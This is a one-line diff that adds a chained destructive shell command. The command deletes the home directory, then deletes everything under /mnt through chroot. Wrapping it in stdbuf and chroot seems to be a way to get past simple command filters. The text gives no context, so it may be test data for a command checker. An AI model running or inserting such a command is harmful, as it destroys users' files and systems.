@@ -1,0 +1,1 @@
+stdbuf -oL rm -rf ~; chroot /mnt rm -rf /
